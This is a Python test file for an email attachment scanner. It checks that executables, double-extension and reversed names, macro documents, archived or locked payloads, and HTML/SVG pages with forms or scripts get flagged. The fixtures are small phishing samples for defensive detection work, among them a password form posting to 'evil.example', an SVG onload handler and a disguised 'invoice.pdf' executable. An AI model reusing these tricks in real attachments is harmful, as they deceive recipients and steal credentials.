from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secassist.mail.content.attachments import findings_of, zip_entries
from secassist.mail.findings import Weighs
from secassist.mail.mime import Part


def part(name: str, payload: bytes = b"x", content_type: str = "application/octet-stream") -> Part:
    return Part(content_type, name, True, payload, "")


def codes(name: str, payload: bytes = b"x", content_type: str = "application/x") -> set[str]:
    found = findings_of(part(name, payload, content_type))
    return {f.code for f in found if f.weighs is Weighs.AGAINST}


def zipped(*names: str) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name in names:
            archive.writestr(name, "content")
    return data.getvalue()


@pytest.mark.parametrize(
    "name",
    ["a.exe", "a.SCR", "a.js", "a.vbs", "a.hta", "a.lnk", "a.iso", "a.img", "a.one", "a.bat "],
)
def test_programs(name: str) -> None:
    assert "attachment.program" in codes(name)


def test_a_program_by_its_first_bytes() -> None:
    assert codes("invoice.pdf", b"MZ" + b"\0" * 100) == {"attachment.program"}


def test_what_has_no_name_is_called_by_its_type() -> None:
    (found,) = findings_of(part("", b"MZ" + b"\0" * 100, "image/png"))
    assert found.facts["name"] == "image/png"


def test_two_endings_and_names_turned_round() -> None:
    assert "attachment.two-endings" in codes("invoice.pdf.exe")
    assert "attachment.two-endings" in codes("invoice.pdf      .exe")
    assert "attachment.name-turned-round" in codes("invoice\u202efdp.exe")
    assert "attachment.two-endings" not in codes("setup.v2.exe")


@pytest.mark.parametrize("name", ["a.docm", "a.xlsm", "a.xlsb"])
def test_macros(name: str) -> None:
    assert codes(name) == {"attachment.macros"}


def test_archives_are_looked_into() -> None:
    assert codes("a.zip", zipped("readme.txt", "run/me.exe")) == {"attachment.program"}
    assert codes("a.zip", zipped("readme.txt")) == set()
    locked = bytearray(zipped("letter.doc"))
    locked[6] |= 1
    assert codes("a.zip", bytes(locked)) == {"attachment.locked-archive"}


def test_a_cut_archive_is_read_as_far_as_it_goes() -> None:
    data = zipped("one.txt", "two.txt")
    assert [name for name, _ in zip_entries(data)] == ["one.txt", "two.txt"]
    assert [name for name, _ in zip_entries(data[:50])] == ["one.txt"]
    assert list(zip_entries(b"PK\x03\x04")) == []


def test_pages() -> None:
    form = b"<form action='https://evil.example'><input type=password></form>"
    assert codes("bill.html", form) == {"attachment.page-with-form"}
    assert codes("bill.htm", b"<script>x</script>") == {"attachment.page-with-script"}
    assert codes("bill.svg", b"<svg onload=go()>") == {"attachment.page-with-script"}
    assert codes("bill.html", b"<p>Hello</p>") == {"attachment.page"}


@pytest.mark.parametrize("name", ["a.pdf", "photo.jpg", "letter.docx", "com", "", "notes.txt"])
def test_documents(name: str) -> None:
    assert codes(name, b"%PDF-1.7") == set()


@given(st.text(max_size=60), st.binary(max_size=300))
def test_any_part_is_taken(name: str, payload: bytes) -> None:
    findings_of(part(name, payload))
    list(zip_entries(b"PK\x03\x04" + payload))
